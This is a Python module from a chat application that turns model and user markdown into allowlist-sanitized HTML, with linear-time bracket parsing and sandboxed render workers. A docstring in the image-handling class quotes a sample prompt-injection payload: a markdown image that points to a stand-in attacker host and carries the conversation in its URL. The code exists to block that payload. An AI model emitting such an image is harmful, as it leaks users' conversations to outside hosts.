"""Markdown to sanitized HTML: the only place that turns model or user text into HTML.

Model output is untrusted input. Raw HTML in the markdown is escaped (shown as text, so a
reply that talks about `<div>` keeps its words), and the rendered HTML then passes an explicit
allowlist of tags, attributes and URL schemes (nh3) before anything marks it safe.

Python-Markdown's link and image syntax looks, for every `[`, for its closing `]` (and then
for every `(` for its `)`) character by character to the end of the text: its time grows with
the square of the input on runs of unmatched brackets (8,000 `[` took 9.3 s). Here the closing
bracket of every `[` is found once per text, in one pass, and a `(` with no `)` after it fails
at once; measured figures are in docs/ARCHITECTURE.md. What remains quadratic in other shapes
is bounded by the time limit of the render workers (chat/server/renderer.py), which run this
module in processes of their own and fall back to `plain_html`.
"""

from __future__ import annotations

import contextlib
import os
import re
import sys
import threading
from typing import Any, BinaryIO
from urllib.parse import urlsplit
from xml.etree.ElementTree import Element

import markdown
import nh3
from django.utils.html import escape
from markdown.treeprocessors import Treeprocessor

ALLOWED_TAGS = {
    "a",
    "abbr",
    "b",
    "blockquote",
    "br",
    "code",
    "del",
    "details",
    "div",
    "em",
    "h1",
    "h2",
    "h3",
    "h4",
    "h5",
    "h6",
    "hr",
    "i",
    "img",
    "kbd",
    "li",
    "ol",
    "p",
    "pre",
    "s",
    "span",
    "strong",
    "sub",
    "summary",
    "sup",
    "table",
    "tbody",
    "td",
    "th",
    "thead",
    "tr",
    "ul",
}
ALLOWED_ATTRIBUTES = {
    "a": {"href", "title"},
    "img": {"src", "alt", "title"},
    "code": {"class"},
    "div": {"class"},
    "span": {"class"},
    "pre": {"class"},
    "td": {"align"},
    "th": {"align"},
    "ol": {"start"},
}
URL_SCHEMES = {"http", "https", "mailto"}
# Fixed attributes added to every allowed tag of that name.
FORCED_ATTRIBUTES = {"img": {"referrerpolicy": "no-referrer", "loading": "lazy"}}
LINK_REL = "noopener noreferrer nofollow"

_EXTENSIONS = ["fenced_code", "tables", "sane_lists", "codehilite", "nl2br", "pymdownx.magiclink"]
_EXTENSION_CONFIGS = {
    # Bare http(s) and www. URLs and e-mail addresses become links, as marked's GFM autolinks
    # make them in the page while a reply streams (static/chat/markdown.js).
    "pymdownx.magiclink": {"hide_protocol": False, "repo_url_shortener": False},
    "codehilite": {"guess_lang": False, "css_class": "codehilite"},
    # `align` rather than the default inline style, which the sanitizer (rightly) drops.
    "tables": {"use_align_attribute": True},
}


_BRACKETS = re.compile(r"[\[\]]")


class _LinearBrackets:
    """getText and getLink of Python-Markdown's link processors, linear in the text."""

    _data: str | None = None  # the text last asked about
    _tail: str = ""  # the part of it that `_closing` covers: from a `[` to the end
    _closing: dict[int, int]  # by distance from the end: a `[` -> its closing `]`

    def getText(self, data: str, index: int) -> tuple[str, int, bool]:
        # The library's result: the `]` that closes the `[` at index - 1, counting nested
        # pairs. That depends only on the text from there to the end, so the pairs are found
        # once, with a stack, and kept by distance from the end: they stay valid while the
        # processor replaces links before `index` with placeholders, as it does after a match.
        span = len(data) - index + 1
        if data is not self._data:
            known, self._data = self._tail, data
            if span > len(known) or not data.endswith(known[len(known) - span :]):
                self._pair_brackets(data, index - 1)
        elif span > len(self._tail):
            self._pair_brackets(data, index - 1)
        close = self._closing.get(span)
        if close is None:
            return "", len(data), False
        close = len(data) - close
        return data[index:close], close + 1, True

    def _pair_brackets(self, data: str, start: int) -> None:
        self._tail, self._closing = data[start:], {}
        opened, end = [], len(data)
        for match in _BRACKETS.finditer(data, start):
            if match.group() == "[":
                opened.append(end - match.start())
            elif opened:
                self._closing[opened.pop()] = end - match.start()

    def getLink(self, data: str, index: int) -> tuple[str, str | None, int, bool]:
        # No `)` and no quote (the library's scan accepts an unclosed title): no link, and
        # no need for the scan.
        if data.find(")", index) < 0 and data.find('"', index) < 0 and data.find("'", index) < 0:
            return "", None, index, False
        return super().getLink(data, index)  # type: ignore[misc,no-any-return]


# Every processor that inherits the library's scans, by its registered name.
_LINK_PROCESSORS = (
    "reference",
    "link",
    "image_link",
    "image_reference",
    "short_reference",
    "short_image_ref",
)


_linear_classes: dict[type, type] = {}


def _linear(processor: Any) -> None:
    """Give a registered processor the linear scans, keeping its pattern and priority."""
    cls = type(processor)
    if cls not in _linear_classes:
        _linear_classes[cls] = type(f"Linear{cls.__name__}", (_LinearBrackets, cls), {})
    processor.__class__ = _linear_classes[cls]


class _ImagesAsLinks(Treeprocessor):  # type: ignore[misc]
    """An image from another origin would be fetched by every reader's browser the moment the
    reply shows, with whatever a prompt injection put in its URL (`![x](https://attacker/?q=
    <the conversation>)`): so it becomes a link, followed only if the reader clicks, unless
    its host is one the operator allows (CHAT_IMAGE_HOSTS). The page's Content-Security-Policy
    refuses other hosts' images as well, in replies rendered before this rule too."""

    def __init__(self, md: markdown.Markdown, hosts: frozenset[str]) -> None:
        super().__init__(md)
        self.hosts = hosts

    def run(self, root: Element) -> None:
        for img in list(root.iter("img")):
            src = img.get("src", "")
            if _allowed_host(urlsplit(src).hostname, self.hosts) and src.startswith("https://"):
                continue
            alt = img.get("alt") or src
            img.tag = "a"
            img.attrib = {"href": src}
            img.text = alt


def _allowed_host(host: str | None, hosts: frozenset[str]) -> bool:
    if not host:
        return False
    return host in hosts or any(h.startswith(".") and host.endswith(h) for h in hosts)


def _markdown_to_html(text: str, image_hosts: frozenset[str] = frozenset()) -> str:
    # One parser per thread and image hosts, reset before each text: making one (extensions,
    # processors, patterns) took longer than converting most replies with it.
    parsers = _parsers.__dict__.setdefault("by_hosts", {})
    if (md := parsers.get(image_hosts)) is None:
        md = parsers[image_hosts] = _new_parser(image_hosts)
    html: str = md.reset().convert(text)
    return html


_parsers = threading.local()


def _new_parser(image_hosts: frozenset[str]) -> markdown.Markdown:
    md = markdown.Markdown(extensions=_EXTENSIONS, extension_configs=_EXTENSION_CONFIGS)
    md.treeprocessors.register(_ImagesAsLinks(md, image_hosts), "images_as_links", 5)
    # Escape raw HTML instead of passing it through: the sanitizer would drop it, and the
    # words with it.
    md.preprocessors.deregister("html_block")
    md.inlinePatterns.deregister("html")
    for name in _LINK_PROCESSORS:
        _linear(md.inlinePatterns[name])
    return md


def sanitize(html: str) -> str:
    clean: str = nh3.clean(
        html,
        tags=ALLOWED_TAGS,
        attributes=ALLOWED_ATTRIBUTES,
        url_schemes=URL_SCHEMES,
        link_rel=LINK_REL,
        set_tag_attribute_values=FORCED_ATTRIBUTES,
        strip_comments=True,
    )
    return clean


def render_markdown(text: str, image_hosts: frozenset[str] = frozenset()) -> str:
    """Markdown source to HTML that is safe to insert into the page as it is. Images show
    only from `image_hosts` (over https); others are links."""
    if not text:
        return ""
    return sanitize(_markdown_to_html(text, image_hosts))


def page_rules(image_hosts: list[str]) -> dict[str, object]:
    """The rules above, for the page's own renderer of a reply while it streams
    (static/chat/markdown.js), so that both sanitize with the same allowlists."""
    return {
        "tags": sorted(ALLOWED_TAGS),
        "attributes": {tag: sorted(names) for tag, names in ALLOWED_ATTRIBUTES.items()},
        "url_schemes": sorted(URL_SCHEMES),
        "forced_attributes": FORCED_ATTRIBUTES,
        "link_rel": LINK_REL,
        "image_hosts": list(image_hosts),
    }


def plain_html(text: str) -> str:
    """A reply shown as escaped text, its line breaks kept: what a reply whose markdown could
    not be rendered in time gets instead."""
    return f'<div class="plain-text">{escape(text)}</div>' if text else ""


def render_plain(text: str) -> str:
    """User messages: shown as written (escaped; the page keeps line breaks with CSS
    white-space), never as markdown."""
    return escape(text)


def snippet_html(text: str, query: str, before: int = 40, after: int = 100) -> str:
    """A search result's snippet: the text around the first match of `query` (any case),
    escaped, the match in <mark>; the start of the text when it holds no match (a title)."""
    flat = " ".join(text.split())
    found = re.search(re.escape(" ".join(query.split())), flat, re.IGNORECASE)
    if found is None:
        return escape(flat[: before + after]) + ("…" if len(flat) > before + after else "")
    start, end = max(0, found.start() - before), min(len(flat), found.end() + after)
    return (
        ("…" if start else "")
        + escape(flat[start : found.start()])
        + "<mark>"
        + escape(found.group())
        + "</mark>"
        + escape(flat[found.end() : end])
        + ("…" if end < len(flat) else "")
    )


# How much lower the render workers' CPU priority is than the server's. A reply's final text
# is rendered once, when it ends; the server meanwhile relays other replies' live text, which
# is late when it waits. With 50 replies streaming on one core, their final renders took the
# core from the relay often enough that about one chunk in 200 came more than a token
# interval late; at +10 the relay comes first (BENCHMARKS.md).
RENDER_NICENESS = 10


def serve(stdin: BinaryIO, stdout: BinaryIO, image_hosts: frozenset[str]) -> None:
    """A render worker (chat/server/renderer.py): markdown in, sanitized HTML out, each
    message a 4-byte big-endian length and that many bytes of UTF-8, until stdin closes.
    An empty message first says the worker is ready. It runs at a lower CPU priority
    (RENDER_NICENESS) than the server, which shares its core."""
    with contextlib.suppress(AttributeError, OSError):  # no os.nice: same priority
        os.nice(RENDER_NICENESS)
    render_markdown("*warm-up*")
    stdout.write(b"\x00\x00\x00\x00")
    stdout.flush()
    while header := stdin.read(4):
        text = stdin.read(int.from_bytes(header, "big")).decode("utf-8", "replace")
        html = render_markdown(text, image_hosts).encode()
        stdout.write(len(html).to_bytes(4, "big") + html)
        stdout.flush()


if __name__ == "__main__":
    # argv: the hosts whose images may show (CHAT_IMAGE_HOSTS), comma-separated.
    hosts = frozenset(h for h in (sys.argv[1] if len(sys.argv) > 1 else "").split(",") if h)
    serve(sys.stdin.buffer, sys.stdout.buffer, hosts)
